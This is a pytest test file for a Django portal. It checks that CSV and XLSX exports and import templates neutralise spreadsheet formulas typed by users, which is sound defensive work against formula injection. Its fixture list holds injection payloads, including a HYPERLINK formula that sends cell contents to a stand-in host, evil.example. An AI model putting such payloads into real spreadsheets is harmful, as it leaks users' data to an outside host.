"""Formulas typed by people stay text in every CSV and XLSX the portal writes: the API's
CSV, the funding dashboard's CSV and XLSX downloads, the workplan import template and the
import templates of ctportal.spreadsheets. (The report workbooks: tests/reports.)"""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from ctportal.spreadsheet_safety import formula_like, inert_cell, inert_workbook
from ctportal.spreadsheets import Column, template_xlsx
from organisations.models import Role
from tests.api.conftest import client_for
from tests.factories import (
    AllocationFactory,
    DisbursementFactory,
    FundingAgreementFactory,
    IndicatorFactory,
    OutputFactory,
    ProjectFactory,
    user_with_role,
)
from tests.workplans import approved_version
from workplans.models import WorkplanVersion

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    '\uff1dHYPERLINK("http://evil.example")',  # a full-width equals sign
]


# --- The rule ------------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_gets_an_apostrophe_in_csv(text):
    assert formula_like(text)
    assert inert_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        Decimal("-12.50"),
        -5,
        0,
        1.5,
        "-12.50",  # the API writes decimals as text
        "+3",
        "-1e3",
        "Mentoring <b>CTD Sindh investigators",
        "A-1 = first activity",
        "",
        None,
    ],
)
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert inert_cell(value) is value


def test_an_xlsx_keeps_formula_text_as_a_quote_prefixed_string_and_numbers_as_numbers():
    workbook = Workbook()
    workbook.active.append([*FORMULAS, Decimal("-12.50"), -5, "plain"])
    saved = io.BytesIO()
    inert_workbook(workbook).save(saved)

    cells = next(load_workbook(saved).active.iter_rows())
    for cell, text in zip(cells, FORMULAS, strict=False):
        assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", text, True)
    number, integer, plain = cells[len(FORMULAS) :]
    assert (number.data_type, number.value) == ("n", -12.5)
    assert (integer.data_type, integer.value) == ("n", -5)
    assert (plain.data_type, plain.value, plain.quotePrefix) == ("s", "plain", False)


def no_formula_cells(workbook) -> list:
    return [
        cell.coordinate
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def string_cells_starting_with(workbook, text: str) -> list:
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(text):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate)
                    found.append(cell)
    return found


# --- The API's CSV -----------------------------------------------------------------------


@pytest.mark.django_db
def test_the_api_csv_makes_every_formula_inert():
    agreement = FundingAgreementFactory(reference="AGR-F")
    for text in FORMULAS:
        DisbursementFactory(agreement=agreement, notes=text)
    response = client_for(user_with_role(Role.PROGRAMME_MANAGER)).get(
        "/api/v1/disbursements/", {"agreement": agreement.pk, "format": "csv"}
    )
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert sorted(row["notes"] for row in rows) == sorted("'" + f for f in FORMULAS)
    # Amounts stay plain numbers.
    assert all(inert_cell(row["planned_amount"]) == row["planned_amount"] for row in rows)


# --- The funding dashboard's downloads ---------------------------------------------------


@pytest.fixture
def formula_agreements(db):
    for index, text in enumerate(FORMULAS):
        AllocationFactory(agreement=FundingAgreementFactory(reference=text, title=f"T{index}"))


def _dashboard(client, kind: str):
    client.force_login(user_with_role(Role.PROGRAMME_MANAGER))
    return client.get(reverse("donors:dashboard"), {"export": kind, "table": "agreements"})


def test_the_dashboard_csv_makes_every_formula_inert(client, formula_agreements):
    response = _dashboard(client, "csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    references = [row[0] for row in rows[1:]]
    for text in FORMULAS:
        assert "'" + text in references
    assert not [cell for row in rows for cell in row if cell[:1] in "=+@\t\r" and cell != ""]


def test_the_dashboard_xlsx_makes_every_formula_inert(client, formula_agreements):
    workbook = load_workbook(io.BytesIO(_dashboard(client, "xlsx").content))
    assert no_formula_cells(workbook) == []
    for text in FORMULAS:
        assert string_cells_starting_with(workbook, text), text


# --- Import templates --------------------------------------------------------------------


@pytest.mark.django_db
def test_the_workplan_import_template_writes_formula_titles_as_text(client):
    version = approved_version(status=WorkplanVersion.Status.DRAFT, decided_by_meeting=None)
    output = OutputFactory(outcome__sub_programme=version.workplan.sub_programme, title=FORMULAS[0])
    IndicatorFactory(output=output, title=FORMULAS[1])
    ProjectFactory(sub_programme=version.workplan.sub_programme, title=FORMULAS[3])
    client.force_login(user_with_role(Role.PROGRAMME_MANAGER))

    response = client.get(reverse("workplans:version-template", args=[version.pk]))

    workbook = load_workbook(io.BytesIO(response.content))
    assert no_formula_cells(workbook) == []
    for text in (FORMULAS[0], FORMULAS[1], FORMULAS[3]):
        assert string_cells_starting_with(workbook, text), text


def test_an_import_template_writes_formula_examples_as_text():
    content = template_xlsx([Column("title", "Title")], examples=[[text] for text in FORMULAS])
    workbook = load_workbook(io.BytesIO(content))
    assert no_formula_cells(workbook) == []
    assert [c.value for c in string_cells_starting_with(workbook, "")][1:] == FORMULAS


# --- Control characters ------------------------------------------------------------------
# Text pasted from a word processor can carry characters XML 1.0 forbids (a vertical tab,
# a form feed); openpyxl refuses them, which once made a download a 500.


def test_the_dashboard_xlsx_writes_text_with_control_characters(client, db):
    AllocationFactory(agreement=FundingAgreementFactory(reference="PASTED\x0bREF", title="T"))
    response = _dashboard(client, "xlsx")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    assert string_cells_starting_with(workbook, "PASTED REF")
